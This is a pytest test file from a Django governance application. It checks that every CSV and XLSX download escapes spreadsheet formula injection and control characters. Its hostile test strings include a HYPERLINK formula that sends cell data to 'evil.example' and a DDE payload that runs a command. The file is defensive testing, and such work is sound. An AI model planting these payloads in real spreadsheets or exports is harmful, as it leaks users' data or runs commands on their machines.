"""QUALITY S5: a formula or a control character typed anywhere reaches no download as
anything but text, and breaks none. Every CSV and XLSX route of the URL conf is fetched
with hostile text in every text field that reaches a download.

A new download route is found by the walk: it is tried without being declared here.
"""

import csv
import datetime as dt
import io
import itertools

import pytest
from django.apps import apps
from django.db import models
from django.test import Client
from django.urls import get_resolver
from openpyxl import load_workbook

from devolution.core.spreadsheets import REPLACEMENT
from devolution.governance.models import Board, BoardMember
from devolution.meetings.models import (
    AgendaItem,
    ConflictFlag,
    Declaration,
    Interest,
    Meeting,
    Ruling,
)
from tests.core.test_access_matrix import _walk_named

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\x01=1 ",
    "\x0bvertical ",
    "=cmd|' /C calc'!A0",
)
CONTROLS = ("\x01", "\x0b")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The downloads that carry no record (an empty import template): nothing hostile reaches
# them, so none is looked for.
# Downloads with no records in London's data: the import template, and the grants
# published in the 360Giving standard (London's data holds no allocation).
EMPTY_TEMPLATES = {
    "commitments:import-template-csv",
    "funding:giving-report-xlsx",
    "workforce:indicator-template-csv",
    "workforce:indicator-template-xlsx",
}
# A route's parameters, by name: a board with a gateway and a work programme.
# A proposal's assurance report (for partnership staff: fetched signed in).
PARAMETERS = {
    "calendars/<slug:key>": "calendars/trust-barts-health",
    "open-data/<slug:key>": "open-data/decisions",
    "<slug:key>": "spb",
    "<slug:board>": "spb",
    "<slug:ref>": "ward-7",
}
STAFF_ONLY = ("/reports/assurance", "/estates/")
# Fields that hold keys, codes, addresses, hashes or words the code reads (not text a
# person typed), and models no download reads.
NOT_TEXT = {
    "password",
    "email",
    "key",
    "reference",
    "code",
    "hash",
    "prev_hash",
    "date_precision",
    "status",
    "kind",
    "file_type",
    "original_name",
    "audit_head",
    "ods_code",
    "gss_code",
    "companies_house",
    "charity_number",
    "website",
    "original_holder_type",
    "criterion",
    "first_name",
    "last_name",
    "rag",
}
NOT_READ = {"AuditEvent", "StatusChange"}


def download_routes() -> dict[str, str]:
    """Every route of the URL conf that offers a CSV or XLSX file."""
    return {
        name: "/" + route
        for name, route in _walk_named(get_resolver().url_patterns)
        if route.endswith((".csv", ".xlsx"))
    }


def _text_fields() -> list[tuple[type[models.Model], str]]:
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("devolution") or model.__name__ in NOT_READ:
            continue
        for field in model._meta.get_fields():
            if (
                isinstance(field, models.CharField | models.TextField)
                and not isinstance(field, models.SlugField | models.URLField | models.EmailField)
                and not field.unique
                and not field.choices
                and field.name not in NOT_TEXT
            ):
                found.append((model, field.name))
    return found


@pytest.fixture
def hostile(db, alice, bob, secretariat, hackney, monkeypatch):
    """Hostile text at the start of every text field of every record, and a conflicts log
    of a declaration and a ruling in hostile words. (No number a download shows may be
    negative in the data: tests/core/test_csv_cells.py writes a negative number.)"""
    board = Board.objects.get(key="spb")
    meeting = Meeting.objects.create(
        key="spb-2018-05-24-hostile", board=board, date=dt.date(2018, 5, 24), status="held"
    )
    item = AgendaItem.objects.create(meeting=meeting, key="hostile", title="An item")
    Declaration.objects.create(meeting=meeting, person=bob, item=item, text="Declared")
    flag = ConflictFlag.objects.create(item=item, person=alice)
    Ruling.objects.create(flag=flag, outcome="withdraw", reason="Ruled", ruled_by=bob)
    # A member of the board with an interest in its published register.
    BoardMember.objects.create(board=board, person=alice, organisation=hackney)
    Interest.objects.create(
        person=alice, kind="employment", organisation=hackney, description="Employed"
    )
    from devolution.funding.services.assurance import ProposalFacts, proposal_create

    proposal_create(
        actor=secretariat,
        facts=ProposalFacts(kind="service_change", title="Ward 7", beds_change=-20),
    )
    # A site of the asset register (estates), whose export is a download.
    from devolution.estates.services import site_create
    from devolution.partners.models import Partnership

    site_create(
        actor=secretariat,
        partnership=Partnership.objects.get(is_default=True),
        ref="HK-HOSTILE",
        data={"name": "A site", "owner_id": hackney.pk, "use": "Clinic", "note": "Noted"},
    )
    # An approved capital business case with its funding, for the capital plan (London's
    # data holds none; the public reads approved cases).
    from devolution.capital.models import BusinessCase, FundingSource
    from devolution.partners.models import Partnership

    case = BusinessCase.objects.create(
        partnership=Partnership.objects.get(key="london-devolution-partnership"),
        ref="hostile-hub",
        title="A hub",
        sponsor=hackney,
        value=1,
        stage="outline",
        state="approved",
    )
    FundingSource.objects.create(case=case, number=1, kind="local", year="2019-20", amount=1)
    # The invented demo register (regulation), for its export and a trust's calendar.
    from devolution.regulation.demo import demo_regulation_fill

    demo_regulation_fill()
    # A trust's workforce counts, so the board's spreadsheet names its STP.
    from devolution.core.models import Source
    from devolution.partners.models import Organisation
    from devolution.workforce.models import Indicator

    Indicator.objects.create(
        organisation=Organisation.objects.get(key="trust-bhrut"),
        period_end=dt.date(2018, 3, 31),
        staff_in_post=90,
        vacancies=10,
        leavers=5,
        source=Source.objects.create(key="hostile-return", title="A return", kind="entered"),
    )
    words = itertools.cycle(HOSTILE)
    for model, name in _text_fields():
        limit = model._meta.get_field(name).max_length
        for pk, value in model.objects.values_list("pk", name):
            text = (next(words) + (value or ""))[:limit]
            model.objects.filter(pk=pk).update(**{name: text})
    # The capital plan shows a case's title and sponsor only: the formula there, whatever
    # the cycle gave them.
    BusinessCase.objects.filter(pk=case.pk).update(title=HOSTILE[0] + "A hub")
    # The board's spreadsheet reads all staff's rows (a blank staff group) and names their
    # sources: the formula there.
    Indicator.objects.update(staff_group="")
    Source.objects.filter(key="hostile-return").update(title=HOSTILE[0] + "A return")
    # The legal framework's rules are data files: their words, as read, hostile too.
    from devolution.governance import legal

    catalogue = legal.rule_catalogue
    monkeypatch.setattr(
        legal,
        "rule_catalogue",
        lambda: [
            {**rule, "title": next(words) + rule["title"], "text": next(words) + rule["text"]}
            for rule in catalogue()
        ],
    )
    return meeting


def _csv_cells(content: bytes) -> list[tuple[str, bool]]:
    """(cell, whether it is a number) for every cell of a CSV."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    cells = []
    for row in rows:
        for value in row:
            try:
                float(value)
                number = True
            except ValueError:
                number = False
            cells.append((value, number))
    return cells


def _xlsx_cells(content: bytes) -> list[tuple[str, bool]]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2" or sheet.freeze_panes.endswith("2"), sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), sheet.title
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is None:
                    continue
                number = cell.data_type == "n" and not cell.is_date
                assert number == isinstance(cell.value, int | float), cell.coordinate
                cells.append((str(cell.value), number))
    return cells


def test_the_walk_finds_every_download():
    names = set(download_routes())
    assert {
        "commitments:export-csv",
        "commitments:export-xlsx",
        "commitments:mou-progress-report-xlsx",
        "governance:progression-report-xlsx",
        "meetings:conflict-log-csv",
    } <= names
    assert all(name.endswith(("-csv", "-xlsx")) for name in names)


def test_every_download_keeps_hostile_text_as_text(hostile, secretariat):
    client, staff = Client(), Client()
    staff.force_login(secretariat)
    reached, numbers = set(), set()
    for name, route in download_routes().items():
        url = route
        for parameter, value in PARAMETERS.items():
            url = url.replace(parameter, value)
        response = (staff if url.startswith(STAFF_ONLY) else client).get(url)
        assert response.status_code == 200, (name, url, response.status_code)
        content = response.content
        if route.endswith(".csv"):
            assert response["Content-Type"].startswith("text/csv"), name
            cells = _csv_cells(content)
        else:
            assert response["Content-Type"] == XLSX, name
            cells = _xlsx_cells(content)
        for value, number in cells:
            assert number or not value.startswith(FORMULA_START), (name, value)
            assert not any(c in value for c in CONTROLS), (name, value)
            if "HYPERLINK" in value or REPLACEMENT in value:
                reached.add(name)
            if number:
                numbers.add(name)
    # The hostile text reached every download that shows records; numbers stayed numbers.
    assert reached == set(download_routes()) - EMPTY_TEMPLATES
    assert "governance:progression-report-xlsx" in numbers  # each phase's order
